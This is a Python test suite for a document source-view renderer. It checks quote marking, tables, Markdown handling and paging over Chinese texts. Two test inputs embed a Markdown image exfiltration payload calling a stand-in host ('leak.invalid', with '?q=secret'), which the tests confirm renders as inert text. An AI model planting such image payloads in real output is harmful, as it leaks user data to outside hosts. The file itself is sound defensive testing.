import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generated import TEXTS
from handmade import POISON
from markup import Reader, marked
from zhangju_index.outline import outline_document
from zhangju_index.parsing import bundled_article, document_from_bytes, document_from_text
from zhangju_index.values import Document, Element, Layout
from zhangju_ui.plain import shown
from zhangju_ui.source_view import Mark, render_part, render_source

LINES = st.lists(
    st.sampled_from(
        [
            "第一章 总则",
            "一、关于👩‍🌾农业",
            "氢能与储能🚀是未来产业。武进要抢先布局，",
            "加快招引项目。",
            "“主赛道”在哪里？答：在脚下……",
            "Plain English words wrap here and",
            "go on in the next line. 𠮷野家。",
            "",
            "- 第一项",
            "| 产业 | 产值 |",
            "|:--|--:|",
            "| 氢能🚀 | 12\\|13 | |",
            "产业\t产值\t",
            "\t氢能",
            "这是**重点🚀**和**另一个**，***不算***。",
            "```",
            "<b>not bold</b> & ![x](http://leak.invalid/a.png) ${value}",
        ]
    ),
    min_size=1,
    max_size=14,
)
OUR_TAGS = {"article", "button", "div", "h3", "h4", "h5", "h6", "mark", "p", "span", "strong"} | {
    "table",
    "td",
    "th",
    "tr",
}


def squeezed(text):
    """Text without its white space, which is not quoted."""
    return "".join(text.split())


def seen(text):
    """What a reader sees of text: control characters are named."""
    return squeezed(Reader(shown(text)).text)


@pytest.mark.parametrize("source", ["article.txt", "article.md"])
@given(text=st.one_of(TEXTS, LINES.map("\n".join)), data=st.data())
def test_exactly_the_cited_characters_are_marked(source, text, data):
    """Whatever is cited, across lines and paragraphs and with emoji, that is marked and nothing else."""
    text = f"{text}文。"
    outline = outline_document(document_from_text(text, name="article", source=source))
    start = data.draw(st.integers(0, len(text) - 1))
    end = data.draw(st.integers(start + 1, len(text)))

    written = render_source(outline, "zh-Hans", [Mark("quote", start, end)])

    assert squeezed("".join(marked(written))) == seen(outline.read(start, end).text)
    assert set(Reader(written).tags) <= OUR_TAGS
    for place in re.finditer(
        r'<mark class="zj-quote" data-start="(\d+)" data-end="(\d+)">(.*?)</mark>', written
    ):
        part = outline.read(int(place[1]), int(place[2])).text
        assert squeezed(Reader(place[3]).text) == seen(part)
        assert start <= int(place[1]) < int(place[2]) <= end


@given(text=st.one_of(TEXTS, LINES.map("\n".join)))
def test_no_word_of_the_document_is_lost(text):
    """The pane shows the whole document, in order."""
    text = f"{text}终。"
    outline = outline_document(document_from_text(text, name="article", source="article.md"))
    written = Reader(render_source(outline, "en")).text
    assert squeezed(written) == seen(outline.read(0, len(text)).text)


def test_the_article_has_its_structure():
    """Headings are headings, under one another; leads open their paragraphs; every section has an anchor."""
    outline = outline_document(bundled_article())
    written = render_source(outline, "zh-Hans")
    page = Reader(written)
    assert {f"zj-at-{section.start}" for section in outline.sections} == set(page.all("id"))
    assert '<strong class="zj-lead">做强主导产业&#44;激活新质生产力。</strong>' in written
    assert re.search(r'<h5 class="zj-heading"[^>]*>深刻理解新质生产力的本质内涵', written)
    assert len(page.all("id")) == len(set(page.all("id")))


def test_marks_of_headings_are_set_apart():
    """What tells a heading in Markdown stays in the text, apart from its words, and can be quoted like them."""
    text = "# 条例\n\n## 登记\n\n须在三十日内登记。\n"
    outline = outline_document(document_from_text(text, name="a", source="a.md"))
    written = render_source(outline, "en", [Mark("quote", 3, 8)])
    assert re.findall(r'<span class="zj-sigil">(.*?)</span>', written) == [
        "&#35; ",
        '<mark class="zj-quote" data-start="6" data-end="8">&#35;&#35;</mark> ',
    ]
    assert squeezed("".join(marked(written))) == squeezed(text[3:8])


def test_the_clause_that_answers_is_marked_inside_its_quote():
    """A key clause splits its quote into three marks that together are the quote."""
    article = bundled_article()
    quote = article.text.index("合成生物、氢能")
    end = article.text.index("。", quote) + 1
    marks = [Mark("quote", quote, end), Mark("key", quote, quote + 12)]
    written = render_source(outline_document(article), "zh-Hans", marks)
    assert re.findall(r'<mark class="zj-(\w+)"', written) == ["key", "quote"]
    assert squeezed("".join(marked(written))) == squeezed(article.text[quote:end])


def test_a_planted_document_is_text():
    """Images, scripts and links of a document are characters on the page."""
    page = Reader(render_source(outline_document(POISON), "en", [Mark("quote", 0, len(POISON.text))]))
    assert set(page.tags) <= OUR_TAGS
    assert not {"href", "src", "onerror"} & {name for name, _ in page.attributes}
    assert "![x](http://leak.invalid/a.png?q=secret)" in page.text


@pytest.mark.parametrize("part", [0.0, 0.5, 1.0])
def test_of_a_long_document_the_part_around_the_place_is_written(part):
    """A place in a book is shown at once, with a way to what comes before and after."""
    text = "".join(f"第{n}条 这是第{n}条的规定，应当遵守。\n\n" for n in range(1, 4000))
    outline = outline_document(document_from_text(text, name="law", source="law.txt"))
    start = int(part * (len(text) - 20))
    written = render_source(outline, "en", [Mark("quote", start, start + 12)], window=5000)
    assert squeezed("".join(marked(written))) == squeezed(outline.read(start, start + 12).text)
    assert len(written) < 120_000
    assert written.count("zj-part") == (2 if part == 0.5 else 1)


@given(
    text=st.one_of(TEXTS, LINES.map("\n".join)).map(lambda text: f"{text}终。"),
    window=st.integers(1, 60),
    data=st.data(),
)
def test_parts_put_beside_one_another_are_the_document(text, window, data):
    """Whatever was shown first, what comes before and after it adds up to the document: nothing twice, nothing lost."""
    outline = outline_document(document_from_text(text, name="article", source="article.txt"))
    at = data.draw(st.integers(0, len(text)))
    start, end = sorted(data.draw(st.tuples(st.integers(0, len(text)), st.integers(0, len(text)))))
    marks = [Mark("quote", start, end)] if start < end else []

    def seen_in(written):
        """Text without the buttons that lead on, and whether there is more."""
        bare = re.sub(r"<button.*?</button>", "", written)
        edges = re.search(r'data-start="(\d+)" data-end="(\d+)"', written)
        return bare, int(edges[1]), int(edges[2])

    first = render_source(outline, "en", marks, at, window=window)
    shown_parts, begin, stop = [first], *seen_in(first)[1:]
    while "zj-later" in shown_parts[-1]:
        shown_parts.append(render_part(outline, "en", marks, after=stop, window=window))
        assert "zj-earlier" not in shown_parts[-1]
        stop = seen_in(shown_parts[-1])[2]
    while "zj-earlier" in shown_parts[0]:
        shown_parts.insert(0, render_part(outline, "en", marks, before=begin, window=window))
        assert "zj-later" not in shown_parts[0]
        begin = seen_in(shown_parts[0])[1]

    def same(words):
        """Without joiners, which are named where a mark cuts an emoji in two."""
        return re.sub("U\\+200[CD]|[\u200c\u200d]", "", words)

    whole = "".join(seen_in(part)[0] for part in shown_parts)
    assert same(squeezed(Reader(whole).text)) == same(seen(outline.read(0, len(text)).text))
    marked_words = outline.read(start, end).text if marks else ""
    assert same(squeezed("".join(marked(whole)))) == same(seen(marked_words))


def test_pages_of_a_source_are_told():
    """Where the source has pages, each says its number once."""
    text = "第一页的文字，有一句。\n第二页的文字，也有一句。\n"
    document = Document("d", "题", "d.pdf", text, layout=Layout(pages=(0, 12)))
    written = render_source(outline_document(document), "en")
    assert re.findall(r'class="zj-page"[^>]*>(\d+)<', written) == ["1", "2"]
    follows = render_part(outline_document(document), "en", after=11)
    assert re.findall(r'class="zj-page"[^>]*>(\d+)<', follows) == ["2"]


TABLE = """# 产业

| 产业 | 产值（亿元） | 增速 |
|:-----|-----:|:---:|
| 氢能 <b>&lt;| 120 | 15% |
| 储能\\|电池 | | 9% |

之后的一段话，说明上面的表格。
"""


def cells(written):
    """Rows of cells as a reader sees them: what only parts cells is taken out."""
    seen = re.sub(r'<span class="zj-fence"[^>]*>.*?</span>', "", written)
    rows = [re.findall(r"<(t[dh])\b[^>]*>(.*?)</\1>", row) for row in re.findall(r"<tr.*?</tr>", seen)]
    return [[(tag, Reader(words).text) for tag, words in row] for row in rows]


def test_a_table_is_shown_as_one():
    """Markdown's rows become cells that hold text only; the line under the head is no row to see."""
    written = render_source(outline_document(document_from_text(TABLE, name="a", source="a.md")), "en")
    assert cells(written) == [
        [("th", "产业"), ("th", "产值（亿元）"), ("th", "增速")],
        [("td", "")],
        [("td", "氢能 <b>&lt;"), ("td", "120"), ("td", "15%")],
        [("td", "储能\\|电池"), ("td", ""), ("td", "9%")],
    ]
    assert re.search(r'<tr class="zj-rule" aria-hidden="true"', written)
    assert re.findall(r'<th scope="col" class="zj-(\w+)"', written) == ["start", "end", "center"]


def test_every_part_of_a_table_can_be_marked():
    """A quote from anywhere in a table to anywhere in it marks its characters, bars and rules included."""
    outline = outline_document(document_from_text(TABLE, name="a", source="a.md"))
    first, last = TABLE.index("| 产业"), TABLE.index("之后") + 4
    for start in range(first, last):
        for end in range(start + 1, last, 3):
            written = render_source(
                outline, "en", [Mark("quote", start, end), Mark("key", start + 2, end - 2)]
            )
            assert squeezed(
                Reader("".join(re.findall(r"<mark[^>]*>(.*?)</mark>", written))).text
            ) == squeezed(TABLE[start:end])


def test_rows_of_other_formats_are_cells():
    """Rows out of HTML and Word are told by their format; a cell that was left empty keeps its column."""
    page = (
        "<h1>产业</h1><p>说明下面表格的一句话。</p><table><tr><td>产业<td>地区<td>产值</tr>"
        "<tr><td rowspan=2>氢能<td>武进<td>12</tr><tr><td>&lt;i>天宁<td>7</tr></table>"
        "<table><tr><td>甲<td>乙</tr></table>"
    )
    written = render_source(outline_document(document_from_bytes(page.encode(), source="a.html")), "en")
    rows = [["产业", "地区", "产值"], ["氢能", "武进", "12"], ["", "<i>天宁", "7"], ["甲", "乙"]]
    assert [[words for _, words in row] for row in cells(written)] == rows
    assert written.count("<table") == 2
    # The first row has no figures, where all others have some.
    assert [tag for row in cells(written) for tag, _ in row] == ["th"] * 3 + ["td"] * 8


@pytest.mark.parametrize(
    ("text", "stated", "shown_cells"),
    [
        ("名称 数量\n梨 3\n", True, [["名称", "数量"], ["梨", "3"]]),
        ("名称 数量\n梨\n", True, []),
        ("Name Count\nSugar pear 3\n", True, []),
        ("城市  人口  面积\n武进  164  1066\n", False, [["城市", "人口", "面积"], ["武进", "164", "1066"]]),
        ("城市\t人口\n武进\t164\n", False, [["城市", "人口"], ["武进", "164"]]),
        ("城市\t人口\n武进\t164\t1066\n", False, []),
    ],
)
def test_cells_are_told_apart_only_where_that_is_sure(text, stated, shown_cells):
    """Where cells cannot be told, lines stay lines: nothing stands under a wrong head."""
    ends = [match.end() - 1 for match in re.finditer("[^\n]+\n", text)]
    starts = [0, *(end + 1 for end in ends[:-1])]
    rows = tuple(Element("table", a, b) for a, b in zip(starts, ends, strict=True)) if stated else ()
    document = Document("d", "题", "d.pdf", text, layout=Layout(elements=rows))
    written = render_source(outline_document(document), "en")
    assert [[words for _, words in row] for row in cells(written)] == shown_cells
    assert squeezed(Reader(written).text) == squeezed(text)


def test_markdown_is_set_as_it_is_meant():
    """Emphasis is bold without its asterisks, items and code are set as such, and no character is lost."""
    text = (
        "# 说明\n\n这里有**重点**，\n也有 2 ** 3。\n\n- 第一项\n- 第二项\n\n"
        "```\n**print**\n| a | b |\n| c | d |\n```\n\n又一段**话**。\n"
    )
    outline = outline_document(document_from_text(text, name="a", source="a.md"))
    written = render_source(outline, "en", [Mark("quote", text.index("这里"), text.index("，"))])
    assert re.findall(r"<strong>(.*?)</strong>", written) == ["重点", "话"]
    assert written.count('class="zj-item"') == 2
    assert written.count('class="zj-code"') == 5
    assert "<table" not in written
    assert marked(written) == ["这里有**重点**"]
    assert squeezed(Reader(written).text) == squeezed(text)
    plain = render_source(outline_document(document_from_text(text, name="a", source="a.txt")), "en")
    assert "<strong>" not in plain


def test_code_ends_where_its_fence_is_closed():
    """By one of the same mark that is no shorter; what stands after it is text again."""
    text = "# 说明\n\n~~~~ py\n~~~\n```\n**a**\n~~~~\n\n又一段**话**。\n"
    written = render_source(outline_document(document_from_text(text, name="a", source="a.md")), "en")
    assert written.count('class="zj-code"') == 5
    assert re.findall(r"<strong>(.*?)</strong>", written) == ["话"]


def test_markdown_inside_a_line_is_set_without_its_marks():
    """Code, links and quotations lose their marks to the eye alone; a link leads nowhere, a picture stays as written."""
    text = (
        "# 说明\n\n见[**手**册](https://a.example/x?y=1)与`代码 **x** [a](b)`，**用`y`**，![图](a.png)，``z``。\n\n"
        "> 引文一 > 二，\n> 第二行。\n>\n> 又一段\n\n甲 > 乙\n"
    )
    outline = outline_document(document_from_text(text, name="a", source="a.md"))
    start, end = text.index("册]"), text.index("代码")
    written = render_source(outline, "en", [Mark("quote", start, end)])
    assert marked(written) == ["册](https://a.example/x?y=1)与`"]
    page = Reader(written)
    assert set(page.tags) <= OUR_TAGS
    assert not {"href", "src"} & {name for name, _ in page.attributes}
    assert squeezed(page.text) == squeezed(text)
    seen_words = squeezed(Reader(re.sub(r'<span class="zj-fence".*?</span>', "", written)).text)
    assert "见手册与代码**x**[a](b)，用y，![图](a.png)，``z``。引文一>二，第二行。又一段甲>乙" in seen_words
    assert written.count('class="zj-code-words"') == 2
    assert written.count('class="zj-quoted') == 3
    assert written.count("zj-hollow") == 1
